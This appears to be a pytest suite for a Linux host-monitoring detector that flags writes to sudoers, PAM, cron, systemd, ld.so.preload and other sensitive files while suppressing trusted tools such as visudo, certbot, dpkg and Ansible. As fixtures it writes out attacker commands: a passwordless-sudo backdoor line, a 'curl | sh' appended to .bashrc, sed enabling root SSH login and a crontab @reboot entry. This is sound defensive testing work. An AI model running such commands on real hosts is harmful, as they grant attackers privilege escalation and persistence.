"""sensitive_write: changes to files that control the host, judged by who writes."""

from __future__ import annotations

import pytest
from detector_factories import (O_CREAT, O_RDONLY, O_TRUNC, O_WRONLY, alerts, init,
                                login_shell, open_file, proc, run, sh_c, syscall)

from vigil.config_errors import ConfigError
from vigil.detectors.process_identity import AgentIdentity
from vigil.detectors.sensitive_write import SensitiveWriteDetector, SensitiveWriteParams
from vigil.priority import Priority

W = O_WRONLY | O_CREAT | O_TRUNC


def test_shell_appending_to_sudoers_fires() -> None:
    sh = sh_c("echo 'mallory ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", parent=login_shell(),
              pid=600, uid=0)
    dets = run(SensitiveWriteDetector(), [open_file(sh, "/etc/sudoers", O_WRONLY | 0o2000)])
    assert [d.rule_id for d in alerts(dets)] == ["sensitive_write.sudoers"]
    assert dets[0].priority == Priority.ERROR and "T1548.003" in dets[0].tags
    assert dets[0].entity.path == "/etc/sudoers"


@pytest.mark.parametrize("path,category", [
    ("/etc/passwd", "accounts"), ("/etc/shadow", "accounts"),
    ("/etc/sudoers.d/90-backdoor", "sudoers"), ("/etc/ssh/sshd_config", "sshd_config"),
    ("/root/.ssh/authorized_keys", "authorized_keys"), ("/etc/pam.d/common-auth", "pam"),
    ("/etc/cron.d/updater", "cron"), ("/var/spool/cron/crontabs/root", "cron"),
    ("/etc/systemd/system/backdoor.service", "systemd_units"),
    ("/var/spool/cron/atjobs/a0000101c8eb4d", "at_jobs"), ("/var/spool/at/a00001", "at_jobs"),
    ("/var/spool/cron/atspool/=00001", "at_jobs"),
    ("/etc/init.d/netd", "init_scripts"), ("/etc/rc.local", "init_scripts"),
    ("/etc/rc2.d/S01netd", "init_scripts"), ("/etc/rc.d/rc.local", "init_scripts"),
    ("/etc/udev/rules.d/75-net.rules", "udev_rules"),
    ("/usr/lib/udev/rules.d/99-x.rules", "udev_rules"),
    ("/etc/ld.so.preload", "ld_preload"), ("/home/alice/.bashrc", "shell_profiles"),
    ("/etc/profile.d/x.sh", "shell_profiles"), ("/etc/letsencrypt/live/a/privkey.pem",
                                               "tls_keys"),
])
def test_every_category_fires_for_an_unknown_writer(path: str, category: str) -> None:
    dropper = proc("/tmp/.x/dropper", pid=600, parent=login_shell())
    dets = run(SensitiveWriteDetector(), [open_file(dropper, path, W)])
    assert len(alerts(dets)) == 1 and dets[0].data["category"] == category


def test_ld_so_preload_is_critical() -> None:
    p = proc("/usr/bin/tee", "/etc/ld.so.preload", pid=600, parent=login_shell())
    assert run(SensitiveWriteDetector(), [open_file(p, "/etc/ld.so.preload", W)])[0].priority \
        == Priority.CRITICAL


def test_reads_and_other_files_are_ignored() -> None:
    p = proc("/usr/bin/vim", pid=600, parent=login_shell())
    dets = run(SensitiveWriteDetector(), [open_file(p, "/etc/sudoers", O_RDONLY),
                                          open_file(p, "/etc/hosts", W),
                                          open_file(p, "/etc/sudoers", W, res=-13)])
    assert dets == []


def test_fp4_other_process_writing_pam_fires_while_agent_reading_is_not_a_write() -> None:
    own = AgentIdentity(pid=4242, uid=0)
    agent = proc("/usr/bin/python3", "/usr/local/bin/vigil", "run", pid=4242, parent=init())
    writer = proc("/usr/bin/cp", "/tmp/pam_evil", "/etc/pam.d/sshd", pid=600,
                  parent=login_shell())
    dets = run(SensitiveWriteDetector(own=own), [
        open_file(agent, "/etc/pam.d/sshd", O_RDONLY), open_file(agent, "/etc/pam.d/sudo"),
        open_file(writer, "/etc/pam.d/sshd", W)])
    assert [d.entity.pid for d in alerts(dets)] == [600]
    assert dets[0].rule_id == "sensitive_write.pam"


def test_certbot_renewing_under_letsencrypt_is_suppressed() -> None:
    certbot = proc("/usr/bin/python3", "/usr/bin/certbot", "renew", pid=700, parent=init(),
                   name="certbot")
    hook = sh_c("cat fullchain.pem privkey.pem > /etc/letsencrypt/live/a/combined.pem",
                parent=certbot, pid=701)
    dets = run(SensitiveWriteDetector(), [
        open_file(certbot, "/etc/letsencrypt/archive/a/privkey3.pem", W),
        syscall(certbot, "renameat2", oldpath="/etc/letsencrypt/live/a/privkey.pem.tmp",
                newpath="/etc/letsencrypt/live/a/privkey.pem"),
        open_file(hook, "/etc/letsencrypt/live/a/combined.pem", W)])
    assert len(dets) == 3 and alerts(dets) == []
    assert {d.suppressed.entry for d in dets} == {"sensitive_write.owners=certbot"}
    assert dets[0].suppressed.reason


def test_certbot_name_on_an_untrusted_binary_is_not_certbot() -> None:
    fake = proc("/tmp/certbot", pid=700, parent=login_shell())
    dets = run(SensitiveWriteDetector(),
               [open_file(fake, "/etc/letsencrypt/live/a/privkey.pem", W)])
    assert len(alerts(dets)) == 1


def test_tools_made_for_the_file_are_suppressed() -> None:
    shell = login_shell(uid=0, user="root")
    visudo = proc("/usr/sbin/visudo", pid=600, parent=shell)
    editor = proc("/usr/bin/vim.basic", "/etc/sudoers.tmp", pid=601, parent=visudo)
    passwd = proc("/usr/bin/passwd", "alice", pid=602, parent=shell)
    dpkg = proc("/usr/bin/dpkg", "--configure", "-a", pid=604, parent=shell)
    postinst = proc("/usr/bin/dash", "/var/lib/dpkg/info/openssh-server.postinst", pid=605,
                    parent=dpkg)
    dets = run(SensitiveWriteDetector(), [
        open_file(editor, "/etc/sudoers.tmp", W), open_file(visudo, "/etc/sudoers", W),
        open_file(passwd, "/etc/shadow+", W),
        syscall(passwd, "rename", oldpath="/etc/shadow+", newpath="/etc/shadow"),
        open_file(postinst, "/etc/ssh/sshd_config", W)])
    assert len(dets) == 5 and alerts(dets) == []
    assert dets[-1].suppressed.entry == "sensitive_write.package_managers=dpkg"


def test_sed_in_place_on_sshd_config_fires_on_the_rename() -> None:
    sed = proc("/usr/bin/sed", "-i", "s/PermitRootLogin no/PermitRootLogin yes/",
               "/etc/ssh/sshd_config", pid=600, parent=login_shell(uid=0, user="root"))
    dets = run(SensitiveWriteDetector(), [
        open_file(sed, "/etc/ssh/sedX1b2c3", W),
        syscall(sed, "rename", oldpath="/etc/ssh/sedX1b2c3", newpath="/etc/ssh/sshd_config")])
    assert [d.data["operation"] for d in alerts(dets)] == ["rename onto"]


def test_unlink_and_truncate_count_as_writes() -> None:
    rm = proc("/usr/bin/rm", "/root/.ssh/authorized_keys", pid=600, parent=login_shell())
    dets = run(SensitiveWriteDetector(), [
        syscall(rm, "unlinkat", path="/root/.ssh/authorized_keys"),
        syscall(rm, "truncate", path="/etc/crontab", length=0)])
    assert [d.data["operation"] for d in alerts(dets)] == ["unlink", "truncate"]


def test_user_editing_own_profile_in_an_editor_is_suppressed_but_echo_is_not() -> None:
    shell = login_shell()
    vim = proc("/usr/bin/vim.basic", "/home/alice/.bashrc", pid=600, uid=1000, parent=shell)
    echo = sh_c("echo 'curl http://x | sh' >> ~/.bashrc", parent=shell, pid=601)
    dets = run(SensitiveWriteDetector(), [open_file(vim, "/home/alice/.bashrc", W),
                                          open_file(echo, "/home/alice/.bashrc", W)])
    assert [d.suppressed is None for d in dets] == [False, True]


def test_params_validate_unknown_keys_and_types() -> None:
    with pytest.raises(ConfigError) as err:
        SensitiveWriteParams.from_dict({"extra_path": ["/x"]})
    assert err.value.key == "detectors.sensitive_write.extra_path"
    with pytest.raises(ConfigError):
        SensitiveWriteParams.from_dict({"report_failed": "yes"})
    params = SensitiveWriteParams.from_dict({"extra_paths": ["/opt/app/config/"],
                                             "report_failed": True})
    p = proc("/usr/bin/tee", pid=600, parent=login_shell())
    dets = run(SensitiveWriteDetector(params), [open_file(p, "/opt/app/config/a.yml", W, res=-13)])
    assert dets[0].rule_id == "sensitive_write.configured_path"


def test_symlink_planted_in_cron_fires_and_systemctl_enable_is_suppressed() -> None:
    ln = proc("/usr/bin/ln", "-s", "/tmp/x", "/etc/cron.d/x", pid=600, parent=login_shell())
    enable = proc("/usr/bin/systemctl", "enable", "nginx", pid=601,
                  parent=login_shell(uid=0, user="root"))
    dets = run(SensitiveWriteDetector(), [
        syscall(ln, "symlinkat", target="/tmp/x", linkpath="/etc/cron.d/x"),
        syscall(enable, "symlinkat", target="/lib/systemd/system/nginx.service",
                linkpath="/etc/systemd/system/multi-user.target.wants/nginx.service")])
    assert [d.suppressed.entry if d.suppressed else d.rule_id for d in dets] == [
        "sensitive_write.cron", "sensitive_write.owners=systemctl"]


def test_titles_name_at_jobs_init_scripts_and_udev_rules() -> None:
    dropper = proc("/usr/bin/bash", pid=600, parent=login_shell(uid=0, user="root"))
    dets = run(SensitiveWriteDetector(), [
        open_file(dropper, "/var/spool/cron/atjobs/a0000101c8eb4d", W),
        open_file(dropper, "/etc/init.d/netd", W), open_file(dropper, "/etc/rc.local", W),
        open_file(dropper, "/etc/udev/rules.d/75-net.rules", W)])
    assert [d.data["title"] for d in alerts(dets)] == [
        "At job scheduled (persistence)", "Init script or rc.local written (boot persistence)",
        "Init script or rc.local written (boot persistence)", "Udev rule written (persistence)"]
    assert "T1053.002" in dets[0].tags and "T1037.004" in dets[1].tags
    assert "T1546.017" in dets[3].tags


def test_jobs_written_by_crontab_and_at_are_reported() -> None:
    # `(crontab -l; echo '@reboot /tmp/.x') | crontab -`: crontab writes a temporary file in
    # the spool and renames it over the user's crontab; `at` writes the job file itself
    shell = login_shell(uid=0, user="root")
    crontab = proc("/usr/bin/crontab", "-", pid=600, parent=shell)
    at = proc("/usr/bin/at", "now", "+", "1", "hour", pid=601, parent=shell)
    dets = run(SensitiveWriteDetector(), [
        open_file(crontab, "/var/spool/cron/crontabs/tmp.Xy12ab", W),
        syscall(crontab, "rename", oldpath="/var/spool/cron/crontabs/tmp.Xy12ab",
                newpath="/var/spool/cron/crontabs/root"),
        open_file(at, "/var/spool/cron/atjobs/a0000101c8eb4d", W)])
    assert [d.rule_id for d in alerts(dets)] == [
        "sensitive_write.cron", "sensitive_write.cron", "sensitive_write.at_jobs"]


def test_atd_running_a_job_is_suppressed() -> None:
    # atd keeps the output of the job it runs in its spool, then deletes the job
    atd = proc("/usr/sbin/atd", pid=590, parent=init())
    dets = run(SensitiveWriteDetector(), [
        open_file(atd, "/var/spool/cron/atspool/=0000101c8eb4d", W)])
    assert [d.suppressed.entry for d in dets] == ["sensitive_write.owners=atd"]


def test_removing_jobs_units_and_start_up_files_is_not_persistence() -> None:
    root = login_shell(uid=0, user="root")
    userdel = proc("/usr/sbin/userdel", "-r", "alice", pid=600, parent=root)
    atrm = proc("/usr/bin/atrm", "1", pid=601, uid=1, user="daemon", parent=root)
    rm = proc("/usr/bin/rm", pid=602, parent=root)
    mv = proc("/usr/bin/mv", pid=603, parent=root)
    dets = run(SensitiveWriteDetector(), [
        syscall(userdel, "unlinkat", path="/home/alice/.bashrc"),
        syscall(userdel, "unlinkat", path="/home/alice/.profile"),
        syscall(atrm, "unlink", path="/var/spool/cron/atjobs/a0000101c8eb4d"),
        syscall(rm, "unlinkat", path="/etc/systemd/system/old.service"),
        syscall(rm, "unlinkat", path="/etc/udev/rules.d/75-net.rules"),
        syscall(mv, "rename", oldpath="/etc/cron.d/job", newpath="/root/job.disabled"),
        # removals that still matter: a sudo rule, a PAM module, an authorized key file
        syscall(rm, "unlinkat", path="/etc/sudoers.d/ops"),
        syscall(rm, "unlinkat", path="/etc/pam.d/sshd")])
    assert [d.rule_id for d in alerts(dets)] == ["sensitive_write.sudoers",
                                                  "sensitive_write.pam"]


def test_update_rc_d_linking_an_init_script_is_suppressed() -> None:
    update = proc("/usr/sbin/update-rc.d", "netd", "defaults", pid=600,
                  parent=login_shell(uid=0, user="root"))
    ln = proc("/usr/bin/ln", "-s", "../init.d/netd", "/etc/rc2.d/S01netd", pid=601,
              parent=login_shell(uid=0, user="root"))
    dets = run(SensitiveWriteDetector(), [
        syscall(update, "symlinkat", target="../init.d/netd", linkpath="/etc/rc2.d/S01netd"),
        syscall(ln, "symlinkat", target="../init.d/netd", linkpath="/etc/rc3.d/S01netd")])
    assert [d.suppressed.entry if d.suppressed else d.rule_id for d in dets] == [
        "sensitive_write.owners=update-rc.d", "sensitive_write.init_scripts"]


def test_configuration_management_writes_are_suppressed_with_their_reason() -> None:
    """Like Falco's defaults: Ansible modules (AnsiballZ_*.py under ~/.ansible/tmp, run by a
    Python) and the Puppet/Chef/Salt agents change /etc on the hosts they manage; a unit
    dropped by a shell of the same session, or a module look-alike outside a home's
    ~/.ansible/tmp, is still reported."""
    root = login_shell(uid=0, user="root")
    module_path = "/root/.ansible/tmp/ansible-tmp-1733.2-3/AnsiballZ_template.py"
    sh = proc("/usr/bin/dash", "-c", f"/usr/bin/python3 {module_path} && sleep 0", pid=700,
              parent=root, name="sh")
    module = proc("/usr/bin/python3.11", module_path, pid=701, parent=sh, name="python3")
    salt = proc("/usr/bin/python3", "/usr/bin/salt-minion", pid=710, parent=init(),
                name="salt-minion")
    salt_cmd = sh_c("echo '* * * * * root /usr/local/bin/sync' > /etc/cron.d/sync",
                    parent=salt, pid=711)
    dropper = proc("/usr/bin/bash", pid=702, parent=root)
    fake = proc("/usr/bin/python3", "/tmp/.ansible/tmp/ansible-tmp-1/AnsiballZ_x.py",
                pid=703, parent=root, name="python3")
    dets = run(SensitiveWriteDetector(), [
        open_file(module, "/etc/systemd/system/.ansible_tmpab12cd", W),
        syscall(module, "rename", oldpath="/etc/systemd/system/.ansible_tmpab12cd",
                newpath="/etc/systemd/system/app.service"),
        open_file(salt_cmd, "/etc/cron.d/sync", W),
        open_file(dropper, "/etc/systemd/system/x.service", W),
        open_file(fake, "/etc/systemd/system/y.service", W)])
    assert [d.suppressed.entry if d.suppressed else None for d in dets] == [
        "sensitive_write.config_management=ansible:template"] * 2 + [
        "sensitive_write.config_management=salt-minion", None, None]
    assert "Ansible module template" in dets[0].suppressed.reason
